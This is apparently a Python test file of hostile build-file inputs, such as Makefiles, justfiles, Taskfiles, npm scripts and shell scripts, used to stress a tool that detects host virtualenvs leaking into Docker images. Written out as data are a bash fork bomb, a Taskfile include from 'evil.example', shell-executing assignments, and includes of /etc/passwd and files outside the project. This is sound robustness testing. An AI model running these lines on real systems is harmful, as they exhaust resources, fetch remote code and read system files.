"""Makefiles, justfiles, taskfiles and shell scripts that go round in circles or explode."""

from __future__ import annotations

from tests.hostile.case import Built, Finding, Saying, case
from tests.hostile.ground import Ground

LEAK = "host-venv-in-image"

LEAKS = Finding(LEAK, "Dockerfile")

BUILD = "docker build -t x .\n"


@case(twin=True)
def make_variables_of_each_other(ground: Ground) -> Saying:
    """Variables of make that are each other, and themselves."""
    text = "A = $(B)\nB = $(A)\nC = $(C)\nx:\n\tdocker build $(A) $(C) .\n\tdocker build .\n"
    ground.leaky({"Makefile": text})
    return LEAKS


@case(twin=True)
def make_variables_that_double(ground: Ground) -> Saying:
    """Sixty variables of make, each of which is the one before twice."""
    lines = "A0 = aaaaaaaa\n" + "".join(f"A{n} = $(A{n - 1})$(A{n - 1})\n" for n in range(1, 60))
    ground.leaky({"Makefile": f"{lines}x:\n\tdocker build -t $(A59) .\n"})
    return LEAKS


@case(twin=True)
def make_runs_a_shell(ground: Ground) -> Saying:
    """Functions of make that start programs, and assignments that do."""
    touch = f"touch {ground.canary}"
    text = f"A := $(shell {touch})\nB != {touch}\n$(eval $(shell {touch}))\n+x:\n\t{BUILD}"
    ground.leaky({"Makefile": text})
    return LEAKS


@case(twin=True)
def make_functions_in_each_other(ground: Ground) -> Saying:
    """Functions in functions, five thousand deep, and loops over loops."""
    deep = "$(foreach a,1 2 3 4 5 6 7 8 9," * 5_000 + "x" + ")" * 5_000
    text = f"A := {deep}\nB = $(subst a,$(B)$(B),$(B))\nx:\n\tdocker build $(A) .\n"
    ground.leaky({"Makefile": text})
    return LEAKS


@case(twin=True)
def make_includes_itself(ground: Ground) -> Saying:
    """Makefiles that include themselves, each other, and files outside."""
    ground.leaky(
        {
            "Makefile": f"include Makefile a.mk ../outside/secret /etc/passwd\nx:\n\t{BUILD}",
            "a.mk": "include Makefile\n-include $(wildcard /*)\n",
        }
    )
    return LEAKS


@case(twin=True, heavy=True)
def make_without_end(ground: Ground) -> Saying:
    """Fifty thousand targets that need each other."""
    rules = "".join(f"t{n}: t{n + 1}\n\t{BUILD}" for n in range(50_000))
    ground.leaky({"Makefile": rules + "define X\n" * 10_000 + "ifdef Y\n" * 10_000})
    return LEAKS


@case(twin=True)
def just_of_each_other(ground: Ground) -> Saying:
    """Justfiles that import each other, with values that a shell would run."""
    touch = f"touch {ground.canary}"
    text = f"import 'b.just'\nmod x 'justfile'\na := `{touch}`\nb := a + b\nx: x\n  {BUILD}"
    ground.leaky({"justfile": text, "b.just": "import 'justfile'\nimport? '../outside/secret'\n"})
    return LEAKS


@case(twin=True)
def just_nested(ground: Ground) -> Saying:
    """Expressions of just in each other, twenty thousand deep."""
    text = f"a := {'(' * 20_000}'x'{')' * 20_000}\nb := {'if a == a {' * 9_000}\nx:\n  {BUILD}"
    ground.leaky({"justfile": text + "  docker build {{ " * 5_000})
    return LEAKS


@case(twin=True)
def tasks_of_each_other(ground: Ground) -> Saying:
    """Taskfiles that include each other, and tasks that need each other."""
    text = """
version: 3
includes: {b: ./b.yml, c: ../outside, d: https://evil.example/x.yml}
vars: {A: {sh: touch canary}, B: '{{.B}}{{.B}}'}
tasks:
  x: {deps: [y], cmds: [docker build -t x ., {task: x}]}
  y: {deps: [x], cmds: ['{{range $i := until 999999999}}docker build .{{end}}']}
"""
    ground.leaky({"Taskfile.yml": text, "b.yml": "version: 3\nincludes: {a: ./Taskfile.yml}\n"})
    return LEAKS


@case(twin=True)
def scripts_of_node_that_run_each_other(ground: Ground) -> Saying:
    """Scripts of a `package.json` that run each other."""
    text = (
        '{"scripts": {"a": "npm run b && npm run b", "b": "npm run a; docker build .", "c": "%s"}}'
    )
    ground.leaky({"package.json": text % ("npm run c && " * 5_000)})
    return LEAKS


@case(twin=True)
def shell_that_sources_itself(ground: Ground) -> Saying:
    """Scripts that source and call themselves, each other, and files outside."""
    ground.leaky(
        {
            "build.sh": f". ./build.sh\n. ./b.sh\nsh build.sh\n. ../outside/secret\n{BUILD}",
            "b.sh": "source build.sh\n./build.sh\nbash b.sh\n",
        }
    )
    return LEAKS


@case(twin=True, heavy=True, seconds=60)
def shell_of_four_megabytes(ground: Ground) -> Saying:
    """A script of four megabytes that builds on every line."""
    ground.leaky({"build.sh": "#!/bin/sh\n" + BUILD * 200_000})
    return LEAKS


@case(twin=True)
def shell_that_is_nested(ground: Ground) -> Saying:
    """Subshells, substitutions and braces in each other, in every order."""
    text = "#!/bin/sh\n" + BUILD + "(" * 30_000 + "\n" + "$(" * 30_000 + "\n" + "{ " * 30_000
    ground.leaky({"build.sh": text, "b.sh": "#!/bin/sh\n" + "${a:-" * 30_000 + BUILD})
    return LEAKS


@case(twin=True)
def shell_that_explodes(ground: Ground) -> Saying:
    """Functions that call each other twice, loops over loops, braces over braces."""
    text = "#!/bin/bash\n" + "".join(f"f{n}() {{ f{n + 1}; f{n + 1}; }}\n" for n in range(60))
    text += f"f60() {{ {BUILD} }}\nf0\n:(){{ :|:& }};:\n"
    text += "for a in {1..999}; do for b in {1..999}; do for c in {1..999}; do docker build -t "
    text += "$a$b$c .; done; done; done\ndocker build -t " + "{a,b,c}" * 30 + " .\n"
    ground.leaky({"build.sh": text})
    return LEAKS


@case(twin=True)
def shell_with_variables_that_double(ground: Ground) -> Saying:
    """Variables, lists and substitutions that grow with every line."""
    text = "#!/bin/bash\na=aaaaaaaa\nb=(x y)\n" + 'a="$a$a"\nb+=("${b[@]}" "${b[@]}")\n' * 500
    ground.leaky({"build.sh": text + 'docker build -t "$a" "${b[@]}" "${a//a/$a}" .\n'})
    return LEAKS


@case(twin=True)
def shell_heredocs(ground: Ground) -> Saying:
    """Heredocs that never end, in heredocs, with Dockerfiles in them."""
    text = "#!/bin/sh\n" + "docker build -f - . <<E\nFROM x\nCOPY . .\n" * 3_000
    ground.leaky({"build.sh": text, "b.sh": "#!/bin/sh\ncat " + "<<X " * 20_000})
    return LEAKS


@case(twin=True)
def shell_of_no_text(ground: Ground) -> Saying:
    """A script of bytes that are no text, with NUL and escapes."""
    ground.leaky(
        {"build.sh": b"#!/bin/sh\ndocker build \xff\x00\x1b[2J .\n" + bytes(range(256)) * 999}
    )
    return LEAKS


@case(twin=True)
def build_outside(ground: Ground) -> Saying:
    """Commands that build what lies outside, after changes of the directory."""
    text = (
        "cd ../outside && docker build .\ncd /etc; docker build .\ndocker build -f /etc/passwd .\n"
    )
    text += (
        "docker build --build-context x=../.. --ignore-file ../outside/.dockerignore ../outside\n"
    )
    ground.leaky({"build.sh": "#!/bin/sh\n" + text})
    return LEAKS


@case(twin=True, heavy=True)
def fifteen_hundred_scripts(ground: Ground) -> Saying:
    """More scripts than are read, each of which calls the next one."""
    ground.leaky({f"s{n}.sh": f"#!/bin/sh\n{BUILD}sh s{n + 1}.sh\n" for n in range(1_500)})
    return LEAKS


@case(twin=True)
def platforms_of_death(ground: Ground) -> Saying:
    """Files of fly, Render, Heroku, Skaffold and Procfile, nested, with wrong values."""
    nested = "a: " + "[" * 20_000
    ground.leaky(
        {
            "fly.toml": "[build]\ndockerfile = 3\n" + "[[" * 20_000,
            "render.yaml": nested,
            "heroku.yml": nested,
            "skaffold.yaml": "build: {artifacts: [{image: [x], context: ../..}, 3]}\n",
            "Procfile": "web: " + "$(x" * 20_000,
            "cloudbuild.yaml": "steps: [{name: docker, args: [build, '$_A', .]}]\n"
            "substitutions: {_A: '$_A$_A'}\n",
        }
    )
    return Built("Dockerfile")
